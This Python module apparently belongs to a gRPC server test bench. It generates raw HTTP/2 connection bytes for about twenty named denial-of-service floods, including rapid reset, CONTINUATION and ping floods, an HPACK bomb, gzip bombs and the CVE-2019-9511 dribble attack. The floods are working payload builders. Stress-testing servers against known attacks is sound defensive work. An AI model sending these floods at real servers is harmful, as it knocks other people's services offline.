"""Attacks on a gRPC server, as bytes: each flood is the data of one connection, with the preface."""

import gzip
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from bench.tools.generator import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTING,
    SETTINGS,
    SETTINGS_ACK,
    WINDOW_UPDATE,
    frame,
    header_blocks,
)

PRIORITY, CONTINUATION = 0x2, 0x9
FLOOD_BYTES = 2 * 1024 * 1024
STREAMS = 1_000
"""The default of `max_concurrent_streams`."""

_INITIAL_WINDOW_SIZE = 0x4
_CANCEL = (8).to_bytes(4, "big")
_MAX_FRAME_BYTES = 16_384


@dataclass(frozen=True, slots=True)
class FloodRequest:
    """A call that a flood repeats."""

    path: str
    message: bytes

    def head(self, stream: int, *more: bytes, flags: int = 0) -> bytes:
        """The HEADERS of the call, one frame, which does not change the dynamic table."""
        (block,) = header_blocks(self.path, 1, 0, tracing=False)
        return frame(HEADERS, END_HEADERS | flags, stream, block[1:] + b"".join(more))

    def body(self, stream: int, message: bytes | None = None, compressed: int = 0) -> bytes:
        """The DATA of the call with END_STREAM."""
        message = self.message if message is None else message
        data = bytes([compressed]) + len(message).to_bytes(4, "big") + message
        parts = [data[start : start + _MAX_FRAME_BYTES] for start in range(0, len(data), _MAX_FRAME_BYTES)]
        frames = [frame(DATA, 0, stream, part) for part in parts[:-1]]
        return b"".join([*frames, frame(DATA, END_STREAM, stream, parts[-1])])

    def whole(self, stream: int) -> bytes:
        """The whole call."""
        return self.head(stream) + self.body(stream)


Rounds = Callable[[FloodRequest], Iterator[bytes]]


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def field(name: bytes, value: bytes) -> bytes:
    """A header as a literal without indexing whose value is not Huffman-coded."""
    size = bytes([len(value)]) if len(value) < 127 else b"\x7f" + _rest(len(value) - 127)
    return b"\x00" + bytes([len(name)]) + name + size + value


def _rest(number: int) -> bytes:
    parts = bytearray()
    while number >= 128:
        parts.append(number % 128 + 128)
        number //= 128
    return bytes([*parts, number])


def reset(stream: int) -> bytes:
    """The caller cancels the call of `stream`."""
    return frame(RST_STREAM, 0, stream, _CANCEL)


def _window_update(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def _calls(request: FloodRequest) -> Iterator[bytes]:
    return map(request.whole, _streams())


def _rapid_reset(request: FloodRequest) -> Iterator[bytes]:
    return (request.head(stream) + reset(stream) for stream in _streams())


def _cancelled_calls(request: FloodRequest) -> Iterator[bytes]:
    return (request.whole(stream) + reset(stream) for stream in _streams())


def _answered_then_reset(request: FloodRequest) -> Iterator[bytes]:
    """That many calls, then as many resets, which cross the responses."""
    streams = _streams()
    while True:
        some = [next(streams) for _ in range(64)]
        yield b"".join(map(request.whole, some)) + b"".join(map(reset, some))


def _made_you_reset(request: FloodRequest) -> Iterator[bytes]:
    return (request.head(stream) + _window_update(stream, 0) for stream in _streams())


def _endless(data: bytes) -> Rounds:
    def rounds(_: FloodRequest) -> Iterator[bytes]:
        while True:
            yield data

    return rounds


def _earned_window_updates(request: FloodRequest) -> Iterator[bytes]:
    """As many WINDOW_UPDATE frames as each call earns."""
    return (request.whole(stream) + _window_update(0, 1) * 8 for stream in _streams())


def _earned_pings(request: FloodRequest) -> Iterator[bytes]:
    return (request.whole(stream) + frame(PING, 0, 0, bytes(8)) for stream in _streams())


def _empty_data(request: FloodRequest) -> Iterator[bytes]:
    yield request.head(1)
    while True:
        yield frame(DATA, 0, 1, b"")


def _continuation(_: FloodRequest) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, b"")
    while True:
        yield frame(CONTINUATION, 0, 1, b"")


def _hpack_bomb(_: FloodRequest) -> Iterator[bytes]:
    entry = b"\x40\x01x\x7f\x81\x1e" + b"y" * 3968
    yield frame(HEADERS, END_HEADERS, 1, entry + b"\xbe" * 10_000)


def _refused_metadata(request: FloodRequest) -> Iterator[bytes]:
    """Each call has the most metadata that is decoded, Huffman-coded, and is refused because of its size."""
    coded: bytes = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"e" * 60_000)
    (block,) = header_blocks(request.path, 1, 0, tracing=False)
    block = block[1:] + b"\x00\x01x" + b"\xff" + _rest(len(coded) - 127) + coded
    first, *others, last = (
        block[at : at + _MAX_FRAME_BYTES] for at in range(0, len(block), _MAX_FRAME_BYTES)
    )
    for stream in _streams():
        yield frame(HEADERS, END_STREAM, stream, first)
        yield from (frame(CONTINUATION, 0, stream, part) for part in others)
        yield frame(CONTINUATION, END_HEADERS, stream, last)


def _gzip_bombs(request: FloodRequest) -> Iterator[bytes]:
    body = gzip.compress(bytes(4 * 1024 * 1024 - 64))
    encoding = field(b"grpc-encoding", b"gzip")
    return (request.head(stream, encoding) + request.body(stream, body, 1) for stream in _streams())


def _window_settings(request: FloodRequest) -> Iterator[bytes]:
    """Each frame changes the windows of a thousand streams."""
    yield b"".join(request.head(stream) for stream in range(1, 2 * STREAMS, 2))
    while True:
        yield b"".join(
            frame(SETTINGS, 0, 0, SETTING.pack(_INITIAL_WINDOW_SIZE, size)) for size in (65_535, 65_536)
        )


def _dribble(request: FloodRequest) -> Iterator[bytes]:
    """The client accepts replies one byte at a time (CVE-2019-9511)."""
    yield frame(SETTINGS, 0, 0, SETTING.pack(_INITIAL_WINDOW_SIZE, 0))
    for stream in _streams():
        yield request.whole(stream) + _window_update(stream, 1) * 8


def _open_streams(request: FloodRequest) -> Iterator[bytes]:
    return map(request.head, _streams())


def _half_messages(request: FloodRequest) -> Iterator[bytes]:
    data = b"\x00" + (1_000_000).to_bytes(4, "big") + bytes(16_000)
    return (request.head(stream) + frame(DATA, 0, stream, data) for stream in _streams())


def _malformed(_: FloodRequest) -> Iterator[bytes]:
    return (frame(HEADERS, END_HEADERS, stream, b"\x83") for stream in _streams())


FLOODS: dict[str, Rounds] = {
    "calls_in_one_write": _calls,
    "rapid_reset": _rapid_reset,
    "cancelled_calls": _cancelled_calls,
    "resets_behind_answers": _answered_then_reset,
    "made_you_reset": _made_you_reset,
    "malformed_requests": _malformed,
    "pings": _endless(frame(PING, 0, 0, bytes(8))),
    "earned_pings": _earned_pings,
    "settings": _endless(frame(SETTINGS, 0, 0, b"")),
    "window_settings": _window_settings,
    "window_updates": _endless(_window_update(0, 1)),
    "earned_window_updates": _earned_window_updates,
    "dribbled_replies": _dribble,
    "empty_data": _empty_data,
    "priority": _endless(frame(PRIORITY, 0, 1, bytes(5))),
    "unknown_frames": _endless(frame(0xFA, 0, 0, b"")),
    "continuation": _continuation,
    "hpack_bomb": _hpack_bomb,
    "refused_metadata": _refused_metadata,
    "gzip_bombs": _gzip_bombs,
    "open_streams": _open_streams,
    "half_messages": _half_messages,
}
"""The floods by name; each ends at a disconnect or after `FLOOD_BYTES`."""


HELLO = PREFACE + frame(SETTINGS, 0, 0, b"") + SETTINGS_ACK
GREETING = HELLO + _window_update(0, 2**30)
"""How a connection begins whose replies wait for no window."""


def flood(name: str, request: FloodRequest) -> bytes:
    """Return all bytes that one connection of the flood sends."""
    data = bytearray(HELLO if name == "dribbled_replies" else GREETING)
    for part in FLOODS[name](request):
        data += part
        if len(data) > FLOOD_BYTES or name == "hpack_bomb":
            break
    return bytes(data)
